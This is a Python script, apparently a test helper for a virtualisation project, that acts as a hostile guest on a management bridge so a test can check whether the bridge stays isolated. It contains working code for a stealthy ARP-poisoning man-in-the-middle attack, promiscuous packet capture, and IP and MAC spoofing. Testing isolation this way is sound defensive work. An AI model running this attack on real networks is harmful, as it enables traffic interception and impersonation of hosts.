#!/usr/bin/env python3
"""mgmtnet-attacker.py: a hostile guest on the guests' management bridge.

Runs as root inside one guest's network namespace (ompi-virt guests exec).
For --duration seconds it, at once:
  (a) poisons ARP: every 0.2 s, ARP replies to each victim and to the host
      claiming every other victim's IP and the host's IP for this guest's MAC,
      ARP requests to the host in the victims' names (Linux updates its cache
      from a request addressed to it), and gratuitous ARP for each of them;
      IP forwarding is on (ICMP redirects off) so that a successful
      man-in-the-middle stays invisible: the victims' job still works;
  (b) sets its interface promiscuous and captures every frame it receives
      (AF_PACKET) into a pcap file;
  (c) sends UDP datagrams with a spoofed source to the host's --spoof-port
      (the test counts those that arrive): every 0.2 s with the first
      victim's IP and this guest's MAC, every second with the first victim's
      IP and MAC.
Prints one line of JSON with its counts at the end:
  captured, not_for_me (frames whose destination MAC is neither this guest's
  nor broadcast), arp_sent, spoof_sent, send_errors.
Exit 0 once the duration is over (stops early on SIGTERM or once --stop-file
exists); 2 on bad usage.
Python 3 standard library only.
"""
import argparse
import json
import os
import signal
import socket
import struct
import subprocess
import threading
import time

ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1
BCAST = b"\xff" * 6


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def arp_frame(dst_mac, src_mac, op, sha, spa, tha, tpa):
    eth = dst_mac + src_mac + struct.pack("!H", ETH_P_ARP)
    arp = struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, op)
    arp += sha + socket.inet_aton(spa) + tha + socket.inet_aton(tpa)
    return eth + arp


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def udp_frame(dst_mac, src_mac, src_ip, dst_ip, port, payload):
    udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                      socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + hdr + udp


def resolve(ip, iface, deadline):
    """The true MAC of ip, resolved by our own kernel before we poison."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        while time.monotonic() < deadline:
            try:
                probe.sendto(b"x", (ip, 9))
            except OSError:
                pass
            with open("/proc/net/arp") as f:
                for line in f.readlines()[1:]:
                    cols = line.split()
                    if cols[0] == ip and cols[5] == iface and cols[3] != "00:00:00:00:00:00":
                        return cols[3]
            time.sleep(0.1)
    finally:
        probe.close()
    raise SystemExit("mgmtnet-attacker: cannot resolve %s on %s" % (ip, iface))


def sysctl(path, value):
    try:
        with open("/proc/sys/" + path, "w") as f:
            f.write(value)
    except OSError:
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--host", required=True, help="the host's IP on the bridge")
    ap.add_argument("--victims", required=True, help="victim guests' IPs, comma-separated")
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--pcap", required=True)
    ap.add_argument("--spoof-port", type=int, required=True)
    ap.add_argument("--ready", help="file written once poisoning and capture run")
    ap.add_argument("--stop-file", help="stop early once this file exists")
    a = ap.parse_args()
    victims = [v for v in a.victims.split(",") if v]
    if not victims:
        ap.error("--victims is empty")

    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    end = time.monotonic() + a.duration

    my_mac = mac_bytes(open("/sys/class/net/%s/address" % a.iface).read().strip())
    targets = [a.host] + victims
    true_mac = {ip: resolve(ip, a.iface, time.monotonic() + 10) for ip in targets}
    # our own cache keeps the truth, so that we forward to the real owners
    for ip, mac in true_mac.items():
        subprocess.run(["ip", "neigh", "replace", ip, "lladdr", mac, "dev", a.iface,
                        "nud", "permanent"], check=False)
    sysctl("net/ipv4/ip_forward", "1")
    sysctl("net/ipv4/conf/all/send_redirects", "0")
    sysctl("net/ipv4/conf/%s/send_redirects" % a.iface, "0")

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((a.iface, 0))
    ifindex = socket.if_nametoindex(a.iface)
    sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP,
                    struct.pack("iHH8s", ifindex, PACKET_MR_PROMISC, 0, b""))
    sock.settimeout(0.2)

    counts = {"captured": 0, "not_for_me": 0, "arp_sent": 0, "spoof_sent": 0,
              "send_errors": 0}
    lock = threading.Lock()

    def send(frame, key):
        try:
            sock.send(frame)
            with lock:
                counts[key] += 1
        except OSError:
            with lock:
                counts["send_errors"] += 1

    def poison():
        first = victims[0]
        rounds = 0
        while not stop.is_set() and time.monotonic() < end:
            for owner in targets:          # whose cache we poison
                for claimed in targets:    # the IP we claim
                    if claimed == owner:
                        continue
                    dst = mac_bytes(true_mac[owner])
                    send(arp_frame(dst, my_mac, 2, my_mac, claimed, dst, owner), "arp_sent")
                    send(arp_frame(dst, my_mac, 1, my_mac, claimed, b"\0" * 6, owner), "arp_sent")
            for claimed in targets:        # gratuitous ARP
                send(arp_frame(BCAST, my_mac, 1, my_mac, claimed, b"\0" * 6, claimed), "arp_sent")
            host_mac = mac_bytes(true_mac[a.host])
            send(udp_frame(host_mac, my_mac, first, a.host, a.spoof_port, b"spoofed-ip"),
                 "spoof_sent")
            if rounds % 5 == 0:
                # a copied MAC: once a second (a plain bridge then sends the
                # victim's frames here until the victim speaks again)
                send(udp_frame(host_mac, mac_bytes(true_mac[first]), first, a.host,
                               a.spoof_port, b"spoofed-ip-and-mac"), "spoof_sent")
            rounds += 1
            stop.wait(0.2)

    poisoner = threading.Thread(target=poison, daemon=True)
    poisoner.start()
    if a.ready:
        with open(a.ready, "w") as f:
            f.write("ready\n")

    with open(a.pcap, "wb") as out:
        out.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
        while not stop.is_set() and time.monotonic() < end:
            if a.stop_file and os.path.exists(a.stop_file):
                break
            try:
                frame, addr = sock.recvfrom(65535)
            except socket.timeout:
                continue
            if addr[2] == socket.PACKET_OUTGOING:
                continue           # our own frames
            now = time.time()
            out.write(struct.pack("<IIII", int(now), int((now % 1) * 1e6), len(frame), len(frame)))
            out.write(frame)
            counts["captured"] += 1
            if frame[0:6] not in (my_mac, BCAST):
                counts["not_for_me"] += 1
    stop.set()
    poisoner.join(2)
    sock.close()
    print(json.dumps(counts), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
